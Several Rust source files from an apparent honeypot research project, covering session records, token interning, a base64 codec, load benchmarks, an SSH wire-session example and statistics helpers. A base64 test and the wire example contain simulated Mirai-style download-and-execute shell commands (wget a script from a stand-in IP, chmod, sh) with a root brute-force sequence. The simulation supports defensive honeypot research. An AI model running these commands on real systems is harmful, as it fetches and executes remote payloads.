mod tests {
    use super::*;
    use hutil::Date;

    fn base() -> SessionRecord {
        SessionRecord {
            session_id: 1,
            honeypot_id: 0,
            honeypot_ip: Ipv4Addr::from_octets(100, 0, 0, 1),
            client_ip: Ipv4Addr::from_octets(10, 0, 0, 1),
            client_port: 51234,
            protocol: Protocol::Ssh,
            start: Date::new(2022, 3, 1).at(12, 0, 0),
            end: Date::new(2022, 3, 1).at(12, 0, 40),
            end_reason: SessionEndReason::ClientClose,
            client_version: Some("SSH-2.0-Go".into()),
            logins: vec![LoginAttempt {
                username: "root".into(),
                password: "admin".into(),
                success: true,
            }],
            commands: vec![],
            uris: vec![],
            file_events: vec![],
        }
    }

    #[test]
    fn login_accessors() {
        let r = base();
        assert!(r.login_succeeded());
        assert_eq!(r.accepted_password(), Some("admin"));
        assert_eq!(r.accepted_username(), Some("root"));
        assert_eq!(r.duration_secs(), 40);
    }

    #[test]
    fn state_change_requires_file_mutation() {
        let mut r = base();
        assert!(!r.changes_state());
        r.file_events.push(FileEvent {
            path: "/tmp/x".into(),
            op: FileOp::ExecAttempt { sha256: None },
            source_uri: None,
        });
        assert!(
            !r.changes_state(),
            "exec attempt alone is not a state change"
        );
        r.file_events.push(FileEvent {
            path: "/tmp/y".into(),
            op: FileOp::Created {
                sha256: "ab".repeat(32),
            },
            source_uri: None,
        });
        assert!(r.changes_state());
    }

    #[test]
    fn exec_hash_partition() {
        let mut r = base();
        r.file_events = vec![
            FileEvent {
                path: "/tmp/a".into(),
                op: FileOp::ExecAttempt {
                    sha256: Some("aa".into()),
                },
                source_uri: None,
            },
            FileEvent {
                path: "/tmp/b".into(),
                op: FileOp::ExecAttempt { sha256: None },
                source_uri: None,
            },
        ];
        assert!(r.attempts_exec());
        assert!(r.has_missing_exec());
        assert_eq!(r.exec_hashes().collect::<Vec<_>>(), vec!["aa"]);
    }

    #[test]
    fn command_text_joins_lines() {
        let mut r = base();
        r.commands = vec![
            CommandRecord {
                input: "mkdir /tmp".into(),
                known: true,
            },
            CommandRecord {
                input: "cd /tmp".into(),
                known: true,
            },
        ];
        assert_eq!(r.command_text(), "mkdir /tmp\ncd /tmp");
    }
}
