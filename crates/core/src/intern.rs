//! Token interning for the clustering hot path (paper §6).
//!
//! The token-DLD inner loop compares tokens once per DP cell; over heap
//! `String`s every comparison is a length check plus a memcmp through a
//! pointer. Interning maps each distinct token to a dense `u32` id *once*,
//! so the O(n²·len²) distance phase runs over `&[u32]` with `Copy`
//! register compares. Interning preserves token equality exactly, so
//! DLD over ids equals DLD over the original strings (property-tested in
//! `tests/prop_cluster.rs`).

use std::collections::HashMap;

/// Maps distinct tokens to dense `u32` ids (first-seen order).
#[derive(Debug, Default)]
pub struct Interner {
    ids: HashMap<String, u32>,
    toks: Vec<String>,
}

impl Interner {
    /// An empty interner.
    pub fn new() -> Self {
        Self::default()
    }

    /// Id for `tok`, allocating the next dense id on first sight.
    pub fn intern(&mut self, tok: &str) -> u32 {
        if let Some(&id) = self.ids.get(tok) {
            return id;
        }
        let id = u32::try_from(self.toks.len()).expect("token universe fits in u32");
        self.ids.insert(tok.to_string(), id);
        self.toks.push(tok.to_string());
        id
    }

    /// The token behind `id`. Panics on an id this interner never issued.
    pub fn resolve(&self, id: u32) -> &str {
        &self.toks[id as usize]
    }

    /// Number of distinct tokens interned.
    pub fn len(&self) -> usize {
        self.toks.len()
    }

    /// Whether no token has been interned yet.
    pub fn is_empty(&self) -> bool {
        self.toks.is_empty()
    }

    /// Interns one token sequence.
    pub fn intern_tokens(&mut self, tokens: &[String]) -> Vec<u32> {
        tokens.iter().map(|t| self.intern(t)).collect()
    }

    /// Interns a whole signature corpus, returning the interner alongside
    /// the id sequences (one per input signature, same order).
    pub fn intern_signatures(signatures: &[Vec<String>]) -> (Self, Vec<Vec<u32>>) {
        let mut interner = Self::new();
        let ids = signatures
            .iter()
            .map(|sig| interner.intern_tokens(sig))
            .collect();
        (interner, ids)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ids_are_dense_and_stable() {
        let mut it = Interner::new();
        assert!(it.is_empty());
        let a = it.intern("wget");
        let b = it.intern("<URL>");
        let a2 = it.intern("wget");
        assert_eq!(a, 0);
        assert_eq!(b, 1);
        assert_eq!(a, a2);
        assert_eq!(it.len(), 2);
        assert_eq!(it.resolve(a), "wget");
        assert_eq!(it.resolve(b), "<URL>");
    }

    #[test]
    fn interning_preserves_equality() {
        let sigs = vec![
            vec!["cd".to_string(), "/tmp".to_string(), "wget".to_string()],
            vec!["cd".to_string(), "/tmp".to_string(), "curl".to_string()],
            vec![],
        ];
        let (it, ids) = Interner::intern_signatures(&sigs);
        assert_eq!(it.len(), 4); // cd /tmp wget curl
        assert_eq!(ids[0][..2], ids[1][..2]);
        assert_ne!(ids[0][2], ids[1][2]);
        assert!(ids[2].is_empty());
        for (sig, id_seq) in sigs.iter().zip(&ids) {
            let back: Vec<&str> = id_seq.iter().map(|&i| it.resolve(i)).collect();
            let orig: Vec<&str> = sig.iter().map(String::as_str).collect();
            assert_eq!(back, orig);
        }
    }
}
