//! RFC 4648 base64 (standard alphabet, `=` padding).
//!
//! The `mdrfckr` actor delivers its cryptominer / shellbot / cleanup payloads
//! as base64-encoded shell scripts piped into `base64 -d | sh` (paper §9).
//! The honeypot shell emulator must both *encode* (when synthesising attacker
//! traffic) and *decode* (when the analysis pipeline inspects captured
//! scripts), so the codec lives in the foundation crate.

const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

/// Errors returned by [`decode`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DecodeError {
    /// A byte outside the alphabet (and not padding/whitespace) was found.
    InvalidByte { position: usize, byte: u8 },
    /// The input (ignoring whitespace) was not a multiple of 4 chars.
    InvalidLength,
    /// Padding appeared somewhere other than the final 1–2 positions.
    InvalidPadding,
}

impl std::fmt::Display for DecodeError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            DecodeError::InvalidByte { position, byte } => {
                write!(f, "invalid base64 byte 0x{byte:02x} at position {position}")
            }
            DecodeError::InvalidLength => write!(f, "base64 input length not a multiple of 4"),
            DecodeError::InvalidPadding => write!(f, "misplaced base64 padding"),
        }
    }
}

impl std::error::Error for DecodeError {}

/// Encodes `data` with the standard alphabet and padding.
pub fn encode(data: &[u8]) -> String {
    let mut out = String::with_capacity(data.len().div_ceil(3) * 4);
    for chunk in data.chunks(3) {
        let b0 = chunk[0] as u32;
        let b1 = chunk.get(1).copied().unwrap_or(0) as u32;
        let b2 = chunk.get(2).copied().unwrap_or(0) as u32;
        let n = (b0 << 16) | (b1 << 8) | b2;
        out.push(ALPHABET[(n >> 18) as usize & 0x3f] as char);
        out.push(ALPHABET[(n >> 12) as usize & 0x3f] as char);
        if chunk.len() > 1 {
            out.push(ALPHABET[(n >> 6) as usize & 0x3f] as char);
        } else {
            out.push('=');
        }
        if chunk.len() > 2 {
            out.push(ALPHABET[n as usize & 0x3f] as char);
        } else {
            out.push('=');
        }
    }
    out
}

fn decode_digit(b: u8) -> Option<u8> {
    match b {
        b'A'..=b'Z' => Some(b - b'A'),
        b'a'..=b'z' => Some(b - b'a' + 26),
        b'0'..=b'9' => Some(b - b'0' + 52),
        b'+' => Some(62),
        b'/' => Some(63),
        _ => None,
    }
}

/// Decodes standard base64. ASCII whitespace is skipped, matching the
/// behaviour of `base64 -d` which attackers rely on when piping scripts.
pub fn decode(input: &str) -> Result<Vec<u8>, DecodeError> {
    let mut digits: Vec<u8> = Vec::with_capacity(input.len());
    let mut pad = 0usize;
    for (i, &b) in input.as_bytes().iter().enumerate() {
        if b.is_ascii_whitespace() {
            continue;
        }
        if b == b'=' {
            pad += 1;
            continue;
        }
        if pad > 0 {
            // Data after padding.
            return Err(DecodeError::InvalidPadding);
        }
        match decode_digit(b) {
            Some(d) => digits.push(d),
            None => {
                return Err(DecodeError::InvalidByte {
                    position: i,
                    byte: b,
                })
            }
        }
    }
    if pad > 2 || (pad > 0 && digits.len().is_multiple_of(4)) {
        // Three '=' in a row, or padding that completes nothing ("AAAA=").
        return Err(DecodeError::InvalidPadding);
    }
    if !(digits.len() + pad).is_multiple_of(4) {
        return Err(DecodeError::InvalidLength);
    }
    let mut out = Vec::with_capacity(digits.len() * 3 / 4);
    let mut iter = digits.chunks_exact(4);
    for quad in &mut iter {
        let n = ((quad[0] as u32) << 18)
            | ((quad[1] as u32) << 12)
            | ((quad[2] as u32) << 6)
            | quad[3] as u32;
        out.push((n >> 16) as u8);
        out.push((n >> 8) as u8);
        out.push(n as u8);
    }
    match iter.remainder() {
        [] => {}
        [a, b] => {
            let n = ((*a as u32) << 18) | ((*b as u32) << 12);
            out.push((n >> 16) as u8);
        }
        [a, b, c] => {
            let n = ((*a as u32) << 18) | ((*b as u32) << 12) | ((*c as u32) << 6);
            out.push((n >> 16) as u8);
            out.push((n >> 8) as u8);
        }
        _ => return Err(DecodeError::InvalidLength),
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rfc4648_vectors() {
        let vectors = [
            ("", ""),
            ("f", "Zg=="),
            ("fo", "Zm8="),
            ("foo", "Zm9v"),
            ("foob", "Zm9vYg=="),
            ("fooba", "Zm9vYmE="),
            ("foobar", "Zm9vYmFy"),
        ];
        for (plain, enc) in vectors {
            assert_eq!(encode(plain.as_bytes()), enc);
            assert_eq!(decode(enc).unwrap(), plain.as_bytes());
        }
    }

    #[test]
    fn whitespace_is_skipped() {
        assert_eq!(decode("Zm9v\nYmFy\n").unwrap(), b"foobar");
        assert_eq!(decode("Z m 9 v").unwrap(), b"foo");
    }

    #[test]
    fn rejects_invalid_byte() {
        assert!(matches!(
            decode("Zm9*"),
            Err(DecodeError::InvalidByte {
                position: 3,
                byte: b'*'
            })
        ));
    }

    #[test]
    fn rejects_data_after_padding() {
        assert_eq!(decode("Zg==Zg=="), Err(DecodeError::InvalidPadding));
    }

    #[test]
    fn rejects_bad_lengths() {
        assert_eq!(decode("Zm9vY"), Err(DecodeError::InvalidLength));
        assert_eq!(decode("AAAA="), Err(DecodeError::InvalidPadding));
    }

    #[test]
    fn roundtrip_binary() {
        let data: Vec<u8> = (0..=255u8).collect();
        assert_eq!(decode(&encode(&data)).unwrap(), data);
    }

    #[test]
    fn shell_script_roundtrip() {
        let script = "#!/bin/sh\ncd /tmp && wget http://203.0.113.7/x.sh && sh x.sh\n";
        assert_eq!(
            decode(&encode(script.as_bytes())).unwrap(),
            script.as_bytes()
        );
    }
}
