//! Paper-scale serve throughput: epoll reactor shards vs the legacy
//! polling loop, measured end-to-end over real loopback sockets with
//! the `barrage` load harness.
//!
//! Like `classify.rs`, this is a plain timing loop with its own JSON
//! writer (the vendored criterion has no machine-readable output);
//! `scripts/bench_snapshot.sh` checks the result in as
//! `BENCH_serve.json`.
//!
//! Three measurements per engine:
//!
//! * **Saturation under idle load** (closed loop + idle pool): the
//!   paper's honeynet regime — thousands of connections sit idle
//!   (half-open scanners, slow credential stuffers) while a fraction is
//!   active. The polled engine pays an O(all-connections) scan per
//!   pass; the reactor pays O(ready). The headline `speedup` is the
//!   reactor-to-polled ratio of sustained sessions/sec here.
//! * **Active-only saturation** (closed loop): every connection busy.
//!   Both engines are protocol-CPU-bound, so this isolates pure engine
//!   overhead (on a single-core host the two converge by design).
//! * **Fixed offered load** (open loop): Poisson arrivals at 1k / 10k /
//!   50k sessions/sec — achieved rate, p99 latency, shed rate, and CPU
//!   at each point.
//!
//! ```text
//! cargo bench -p honeylab-bench --bench serve                     # print
//! cargo bench -p honeylab-bench --bench serve -- --json OUT.json  # snapshot
//! cargo bench -p honeylab-bench --bench serve -- --smoke          # CI-sized
//! ```

use serve::barrage::{self, BarrageConfig, BarrageReport, LoadMode};
use serve::{Engine, ServeConfig, Server};
use std::fmt::Write as _;
use std::time::Duration;

/// Whole-process CPU seconds (utime + stime) from `/proc/self/stat` —
/// covers server *and* client threads, which is the honest cost of one
/// measured point since both run in this process.
#[cfg(target_os = "linux")]
fn cpu_secs() -> f64 {
    let stat = std::fs::read_to_string("/proc/self/stat").unwrap_or_default();
    // Fields 14/15 (utime/stime, 1-indexed) follow the parenthesised
    // comm field; split after the closing paren to survive spaces in it.
    let after = stat.rsplit_once(')').map(|(_, a)| a).unwrap_or("");
    let mut it = after.split_whitespace().skip(11); // state is field 3
    let utime: f64 = it.next().and_then(|s| s.parse().ok()).unwrap_or(0.0);
    let stime: f64 = it.next().and_then(|s| s.parse().ok()).unwrap_or(0.0);
    // USER_HZ is 100 on every Linux configuration Rust targets.
    (utime + stime) / 100.0
}

#[cfg(not(target_os = "linux"))]
fn cpu_secs() -> f64 {
    0.0
}

/// One measured point.
struct Point {
    engine: &'static str,
    mode: String,
    idle_background: usize,
    report: BarrageReport,
    cpu_secs: f64,
}

/// Opens `n` connections that send a *partial* SSH version banner and
/// then go silent — the half-open scanners and stalled bots that
/// dominate a long-running honeynet's connection table. The server must
/// hold every one (they are inside the idle timeout); what each engine
/// *pays* to hold them is the measured difference.
fn idle_pool(addr: std::net::SocketAddr, n: usize) -> Vec<std::net::TcpStream> {
    use std::io::Write;
    let mut pool = Vec::with_capacity(n);
    for i in 0..n {
        let mut s = std::net::TcpStream::connect(addr).expect("idle connect");
        s.write_all(b"SSH-2.0-idle").expect("partial banner");
        pool.push(s);
        if i % 512 == 511 {
            // Let the accept thread drain the backlog.
            std::thread::sleep(Duration::from_millis(5));
        }
    }
    pool
}

/// Brings up an in-process server on an ephemeral loopback port, parks
/// `idle_background` half-open connections on it, fires one barrage,
/// and tears everything down.
fn run_point(
    engine: Engine,
    sessions: usize,
    mode: LoadMode,
    server_workers: usize,
    idle_background: usize,
) -> Point {
    let cfg = ServeConfig {
        engine,
        workers: server_workers,
        max_connections: 16_384,
        per_ip_limit: 16_384, // every client is 127.0.0.1
        stats_interval: None,
        ..ServeConfig::default()
    };
    let handle = Server::start(cfg).expect("start server");
    let addr = handle.addrs().ssh.expect("ssh addr");
    let idles = idle_pool(addr, idle_background);
    // Wait until every idle connection is admitted and parked.
    let deadline = std::time::Instant::now() + Duration::from_secs(30);
    while (handle.stats().accepted as usize) < idle_background
        && std::time::Instant::now() < deadline
    {
        std::thread::sleep(Duration::from_millis(10));
    }
    let barrage_cfg = BarrageConfig {
        addr,
        sessions,
        mode,
        seed: 42,
        workers: 8,
        session_deadline: Duration::from_secs(30),
        max_in_flight: 1024,
    };
    let cpu0 = cpu_secs();
    let report = barrage::run(&barrage_cfg).expect("barrage run");
    let cpu1 = cpu_secs();
    drop(idles);
    handle.join().expect("server join");
    let mode_label = match mode {
        LoadMode::Closed { concurrency, .. } => format!("closed/c{concurrency}"),
        LoadMode::Open { rate } => format!("open/{rate:.0}sps"),
    };
    Point {
        engine: match engine {
            Engine::Reactor => "reactor",
            Engine::Polled => "polled",
        },
        mode: mode_label,
        idle_background,
        report,
        cpu_secs: cpu1 - cpu0,
    }
}

fn print_point(p: &Point) {
    let r = &p.report;
    println!(
        "{:<8} {:<14} idle {:>5} offered {:>9.0}/s achieved {:>9.0}/s p50 {:>7.2}ms p99 {:>7.2}ms shed {:>5} err {:>3} cpu {:>6.2}s",
        p.engine, p.mode, p.idle_background, r.offered_sps, r.achieved_sps, r.p50_ms, r.p99_ms, r.shed, r.errors, p.cpu_secs
    );
}

fn json_point(p: &Point) -> String {
    let r = &p.report;
    format!(
        "{{\"engine\": \"{}\", \"mode\": \"{}\", \"idle_background\": {}, \"planned\": {}, \"completed\": {}, \"shed\": {}, \"errors\": {}, \"timeouts\": {}, \"offered_sps\": {:.1}, \"achieved_sps\": {:.1}, \"p50_ms\": {:.3}, \"p99_ms\": {:.3}, \"p999_ms\": {:.3}, \"duration_secs\": {:.3}, \"cpu_secs\": {:.3}}}",
        p.engine,
        p.mode,
        p.idle_background,
        r.planned,
        r.completed,
        r.shed,
        r.errors,
        r.timeouts,
        r.offered_sps,
        r.achieved_sps,
        r.p50_ms,
        r.p99_ms,
        r.p999_ms,
        r.duration_secs,
        p.cpu_secs
    )
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let json_path = args
        .iter()
        .position(|a| a == "--json")
        .and_then(|i| args.get(i + 1))
        .cloned();
    let smoke = args.iter().any(|a| a == "--smoke");

    // Server shards scale with the host: per-shard connection counts
    // stay high enough to expose the polled engine's per-pass scan.
    let server_workers = std::thread::available_parallelism()
        .map(|n| n.get())
        .unwrap_or(4)
        .clamp(1, 8);
    let engines = [Engine::Reactor, Engine::Polled];

    if smoke {
        // CI-sized correctness pass: both engines complete a small
        // closed-loop barrage (with a token idle pool) with zero shed
        // and zero client errors.
        for engine in engines {
            let p = run_point(
                engine,
                300,
                LoadMode::Closed {
                    concurrency: 32,
                    think: Duration::ZERO,
                },
                server_workers,
                64,
            );
            print_point(&p);
            let r = &p.report;
            assert_eq!(
                r.completed + r.shed,
                r.planned,
                "{}: every planned session must resolve",
                p.engine
            );
            assert_eq!(r.shed, 0, "{}: smoke load must not shed", p.engine);
            assert_eq!(r.errors, 0, "{}: no client-side errors", p.engine);
            assert_eq!(r.timeouts, 0, "{}: no stalled sessions", p.engine);
        }
        println!("serve bench smoke: OK");
        return;
    }

    // The headline: saturation with 9000 parked half-open connections
    // and a realistically small active fraction — the regime a honeynet
    // actually lives in after a few hours up (the paper's long-term
    // observation: most connections idle, a trickle active). Low active
    // concurrency matters: the polled engine's per-pass scan cost is
    // amortized over the sessions in flight (CPU/session ≈ protocol +
    // scan × round-trips / concurrency), so a big active batch hides
    // the scan and a honeynet-realistic trickle exposes it.
    // 9000 parked pairs ≈ 18k fds — as close to the container's 20k fd
    // ceiling as the active churn leaves room for.
    let idle_background = 9_000;
    let idle_sessions = 2_000;
    let idle_concurrency = 8;
    // Saturation points are best-of-N: on a shared box a single short
    // run can land in someone else's CPU burst, and contention only
    // ever slows a run down, so the fastest repeat is the closest to
    // the engine's true capability (same policy as the cluster bench).
    let saturation_repeats = 5;
    let active_sessions = 6_000;
    let active_concurrency = 512;
    let open_rates = [1_000.0, 10_000.0, 50_000.0];
    // ~2 seconds of schedule per offered-load point, bounded.
    let open_sessions = |rate: f64| ((rate * 2.0) as usize).clamp(1_000, 60_000);

    let mut points: Vec<Point> = Vec::new();
    let mut sat_idle = [0.0f64; 2]; // [reactor, polled]
    let mut sat_active = [0.0f64; 2];

    let best_of = |n: usize, run: &dyn Fn() -> Point| -> Point {
        let mut best: Option<Point> = None;
        for _ in 0..n {
            let p = run();
            if best
                .as_ref()
                .is_none_or(|b| p.report.achieved_sps > b.report.achieved_sps)
            {
                best = Some(p);
            }
        }
        best.expect("at least one repeat")
    };

    for (ei, engine) in engines.into_iter().enumerate() {
        let p = best_of(saturation_repeats, &|| {
            run_point(
                engine,
                idle_sessions,
                LoadMode::Closed {
                    concurrency: idle_concurrency,
                    think: Duration::ZERO,
                },
                server_workers,
                idle_background,
            )
        });
        print_point(&p);
        sat_idle[ei] = p.report.achieved_sps;
        points.push(p);

        let p = best_of(saturation_repeats, &|| {
            run_point(
                engine,
                active_sessions,
                LoadMode::Closed {
                    concurrency: active_concurrency,
                    think: Duration::ZERO,
                },
                server_workers,
                0,
            )
        });
        print_point(&p);
        sat_active[ei] = p.report.achieved_sps;
        points.push(p);

        for rate in open_rates {
            let p = run_point(
                engine,
                open_sessions(rate),
                LoadMode::Open { rate },
                server_workers,
                0,
            );
            print_point(&p);
            points.push(p);
        }
    }

    let speedup = sat_idle[0] / sat_idle[1].max(1e-9);
    let speedup_active = sat_active[0] / sat_active[1].max(1e-9);
    println!(
        "saturation under {idle_background} idle conns: reactor {:.0}/s vs polled {:.0}/s — {speedup:.2}x",
        sat_idle[0], sat_idle[1]
    );
    println!(
        "active-only saturation: reactor {:.0}/s vs polled {:.0}/s — {speedup_active:.2}x",
        sat_active[0], sat_active[1]
    );

    if let Some(path) = json_path {
        let mut rows = String::new();
        for (i, p) in points.iter().enumerate() {
            let sep = if i + 1 < points.len() { "," } else { "" };
            let _ = writeln!(rows, "    {}{}", json_point(p), sep);
        }
        let json = format!(
            "{{\n  \"bench\": \"serve\",\n  \"server_workers\": {server_workers},\n  \"idle_background\": {idle_background},\n  \"idle_saturation_concurrency\": {idle_concurrency},\n  \"active_saturation_concurrency\": {active_concurrency},\n  \"saturation_best_of\": {saturation_repeats},\n  \"reactor_saturation_sps\": {:.1},\n  \"polled_saturation_sps\": {:.1},\n  \"speedup\": {speedup:.2},\n  \"reactor_active_saturation_sps\": {:.1},\n  \"polled_active_saturation_sps\": {:.1},\n  \"speedup_active_only\": {speedup_active:.2},\n  \"points\": [\n{rows}  ]\n}}\n",
            sat_idle[0], sat_idle[1], sat_active[0], sat_active[1]
        );
        std::fs::write(&path, json).expect("write json snapshot");
        eprintln!("wrote {path}");
    }
}
