//! Drives the honeypot over the real SSH wire protocol: a scripted
//! Mirai-style loader brute-forces a login, drops a payload and executes
//! it, while the sensor records the session exactly as the bulk generator
//! would.
//!
//! ```sh
//! cargo run --release --example honeypot_wire
//! ```

use honeypot::wire::{run_wire_session, WireSessionMeta};
use honeypot::AuthPolicy;
use hutil::Date;
use netsim::Ipv4Addr;
use sshwire::ClientScript;

fn main() {
    // The "malware storage host" serves one loader script.
    let store = |uri: &str| {
        (uri == "http://203.0.113.5/bins.sh").then(|| b"#!/bin/sh\n./dvrHelper tcp 23\n".to_vec())
    };

    let meta = WireSessionMeta {
        honeypot_id: 17,
        honeypot_ip: Ipv4Addr::from_octets(100, 64, 3, 17),
        client_ip: Ipv4Addr::from_octets(198, 51, 100, 77),
        client_port: 40123,
        start: Date::new(2022, 5, 10).at(4, 30, 0),
    };
    let script = ClientScript::new(
        "root",
        &["root", "admin"], // first attempt fails (root:root), second lands
        &[
            "uname -s -v -n -r -m",
            "cd /tmp; wget http://203.0.113.5/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh",
        ],
    );

    let (record, wire_bytes) =
        run_wire_session(&meta, script, AuthPolicy::default(), &store).expect("dialogue runs");

    println!("== wire dialogue complete: {wire_bytes} bytes exchanged ==");
    println!(
        "client version : {}",
        record.client_version.as_deref().unwrap_or("-")
    );
    println!("login attempts :");
    for l in &record.logins {
        println!(
            "  {}:{} -> {}",
            l.username,
            l.password,
            if l.success { "ACCEPT" } else { "reject" }
        );
    }
    println!("commands:");
    for c in &record.commands {
        println!(
            "  [{}] {}",
            if c.known { "known " } else { "unknown" },
            c.input
        );
    }
    println!("uris recorded  : {:?}", record.uris);
    println!("file events:");
    for e in &record.file_events {
        println!("  {:<24} {:?}", e.path, e.op);
    }
    println!(
        "session class changes_state={} attempts_exec={} (duration {}s)",
        record.changes_state(),
        record.attempts_exec(),
        record.duration_secs()
    );
    assert!(record.changes_state() && record.attempts_exec());
}
