//! Shared setup for the honeylab benchmark harness.
//!
//! Every figure/table bench runs over the same generated dataset; the
//! generation happens once per bench binary and is itself measured by
//! `bench_generate` in the `figures` target.

use botnet::{generate_dataset, Dataset, DriverConfig};
use std::sync::OnceLock;

/// The scale used by the benchmark harness (paper sessions per generated
/// session). 1:2000 keeps a full `cargo bench` run in minutes while
/// preserving every qualitative shape; EXPERIMENTS.md records a 1:1000 run.
pub const BENCH_SCALE: u64 = 2_000;

/// The shared benchmark dataset (generated on first use).
pub fn dataset() -> &'static Dataset {
    static DS: OnceLock<Dataset> = OnceLock::new();
    DS.get_or_init(|| {
        let mut cfg = DriverConfig::default_scale(42);
        cfg.session_scale = BENCH_SCALE;
        cfg.ip_scale = 60;
        generate_dataset(&cfg)
    })
}

/// The benchmark generator configuration (for benches that re-generate).
pub fn bench_config() -> DriverConfig {
    let mut cfg = DriverConfig::default_scale(42);
    cfg.session_scale = BENCH_SCALE;
    cfg.ip_scale = 60;
    cfg
}

/// The configuration `bench_generate` actually times: 1:20 000, ten times
/// lighter than [`BENCH_SCALE`], so the ten timed generations fit in
/// criterion's sample window. Kept here (not patched inline in the bench)
/// so the scale divergence from [`bench_config`] is explicit.
pub fn generate_bench_config() -> DriverConfig {
    let mut cfg = bench_config();
    cfg.session_scale = BENCH_SCALE * 10;
    cfg
}
