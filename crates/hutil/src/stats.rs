//! Small statistics helpers backing the figure generators.
//!
//! The paper's figures are boxplots of daily session counts per month
//! (Fig 1), stacked ratio bars (Figs 2–4, 6, 8, 17), CDF-style shares and
//! quantile summaries. Everything here is exact (sort-based) — the inputs
//! are at most a few thousand points per bucket.

/// Five-number summary plus mean, as drawn by one boxplot glyph.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct BoxplotSummary {
    /// Smallest observation.
    pub min: f64,
    /// First quartile (25th percentile).
    pub q1: f64,
    /// Median.
    pub median: f64,
    /// Third quartile (75th percentile).
    pub q3: f64,
    /// Largest observation.
    pub max: f64,
    /// Arithmetic mean.
    pub mean: f64,
    /// Number of observations summarised.
    pub n: usize,
}

impl BoxplotSummary {
    /// Summarises `values`. Returns `None` for an empty slice.
    pub fn from_values(values: &[f64]) -> Option<Self> {
        if values.is_empty() {
            return None;
        }
        let mut v: Vec<f64> = values.to_vec();
        v.sort_by(|a, b| a.partial_cmp(b).expect("NaN in boxplot input"));
        let n = v.len();
        let sum: f64 = v.iter().sum();
        Some(Self {
            min: v[0],
            q1: quantile_sorted(&v, 0.25),
            median: quantile_sorted(&v, 0.5),
            q3: quantile_sorted(&v, 0.75),
            max: v[n - 1],
            mean: sum / n as f64,
            n,
        })
    }

    /// Interquartile range.
    pub fn iqr(&self) -> f64 {
        self.q3 - self.q1
    }
}

/// Linear-interpolation quantile of an already-sorted slice
/// (the "type 7" estimator used by R and NumPy's default).
///
/// Panics if `sorted` is empty or `q` is outside `[0, 1]`.
pub fn quantile_sorted(sorted: &[f64], q: f64) -> f64 {
    assert!(!sorted.is_empty(), "quantile of empty slice");
    assert!(
        (0.0..=1.0).contains(&q),
        "quantile fraction out of range: {q}"
    );
    if sorted.len() == 1 {
        return sorted[0];
    }
    let pos = q * (sorted.len() - 1) as f64;
    let lo = pos.floor() as usize;
    let hi = pos.ceil() as usize;
    if lo == hi {
        sorted[lo]
    } else {
        let frac = pos - lo as f64;
        sorted[lo] * (1.0 - frac) + sorted[hi] * frac
    }
}

/// Quantile of an unsorted slice (sorts a copy).
pub fn quantile(values: &[f64], q: f64) -> f64 {
    let mut v = values.to_vec();
    v.sort_by(|a, b| a.partial_cmp(b).expect("NaN in quantile input"));
    quantile_sorted(&v, q)
}

/// Arithmetic mean; `None` for an empty slice.
pub fn mean(values: &[f64]) -> Option<f64> {
    if values.is_empty() {
        None
    } else {
        Some(values.iter().sum::<f64>() / values.len() as f64)
    }
}

/// Normalises `counts` into ratios summing to 1.0.
/// An all-zero input yields all zeros rather than NaNs so that empty months
/// render as empty bars.
pub fn ratios(counts: &[u64]) -> Vec<f64> {
    let total: u64 = counts.iter().sum();
    if total == 0 {
        return vec![0.0; counts.len()];
    }
    counts.iter().map(|&c| c as f64 / total as f64).collect()
}

/// Returns the indices of the `k` largest values, ties broken by lower
/// index (i.e. stable), in descending value order.
pub fn top_k_indices(values: &[u64], k: usize) -> Vec<usize> {
    let mut idx: Vec<usize> = (0..values.len()).collect();
    idx.sort_by(|&a, &b| values[b].cmp(&values[a]).then(a.cmp(&b)));
    idx.truncate(k);
    idx
}

/// Empirical CDF evaluated at each distinct value: `(value, fraction ≤ value)`.
pub fn ecdf(values: &[f64]) -> Vec<(f64, f64)> {
    if values.is_empty() {
        return Vec::new();
    }
    let mut v = values.to_vec();
    v.sort_by(|a, b| a.partial_cmp(b).expect("NaN in ecdf input"));
    let n = v.len() as f64;
    let mut out: Vec<(f64, f64)> = Vec::new();
    for (i, x) in v.iter().enumerate() {
        let frac = (i + 1) as f64 / n;
        match out.last_mut() {
            Some(last) if last.0 == *x => last.1 = frac,
            _ => out.push((*x, frac)),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn boxplot_of_known_values() {
        let s = BoxplotSummary::from_values(&[1.0, 2.0, 3.0, 4.0, 5.0]).unwrap();
        assert_eq!(s.min, 1.0);
        assert_eq!(s.q1, 2.0);
        assert_eq!(s.median, 3.0);
        assert_eq!(s.q3, 4.0);
        assert_eq!(s.max, 5.0);
        assert_eq!(s.mean, 3.0);
        assert_eq!(s.n, 5);
        assert_eq!(s.iqr(), 2.0);
    }

    #[test]
    fn boxplot_empty_is_none() {
        assert!(BoxplotSummary::from_values(&[]).is_none());
    }

    #[test]
    fn boxplot_unsorted_input() {
        let s = BoxplotSummary::from_values(&[5.0, 1.0, 4.0, 2.0, 3.0]).unwrap();
        assert_eq!(s.median, 3.0);
    }

    #[test]
    fn quantile_interpolates() {
        let v = [1.0, 2.0, 3.0, 4.0];
        assert_eq!(quantile_sorted(&v, 0.0), 1.0);
        assert_eq!(quantile_sorted(&v, 1.0), 4.0);
        assert_eq!(quantile_sorted(&v, 0.5), 2.5);
        assert!((quantile_sorted(&v, 0.25) - 1.75).abs() < 1e-12);
    }

    #[test]
    fn quantile_single_element() {
        assert_eq!(quantile_sorted(&[7.0], 0.99), 7.0);
    }

    #[test]
    fn ratios_sum_to_one() {
        let r = ratios(&[1, 3, 6]);
        assert!((r.iter().sum::<f64>() - 1.0).abs() < 1e-12);
        assert!((r[2] - 0.6).abs() < 1e-12);
    }

    #[test]
    fn ratios_of_zeros() {
        assert_eq!(ratios(&[0, 0]), vec![0.0, 0.0]);
    }

    #[test]
    fn top_k_stable_ties() {
        assert_eq!(top_k_indices(&[5, 9, 5, 1], 3), vec![1, 0, 2]);
        assert_eq!(top_k_indices(&[1, 2], 5), vec![1, 0]);
    }

    #[test]
    fn ecdf_handles_duplicates() {
